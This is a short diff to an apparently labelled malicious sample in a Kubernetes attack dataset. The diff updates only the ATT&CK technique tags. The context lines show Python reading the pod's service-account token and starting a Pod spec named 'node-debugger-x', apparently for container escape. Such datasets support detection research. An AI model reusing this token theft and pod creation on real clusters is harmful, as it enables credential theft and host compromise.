@@ -1,4 +1,4 @@
-# label: malicious family=k8s techniques=T1610,T1611,T1552.007 lines=3,5-7,10
+# label: malicious family=k8s techniques=T1059.004,T1552.007,T1610,T1611 lines=3,5-7,10
 import json, os, ssl, urllib.request
 tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
 pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "node-debugger-x"},
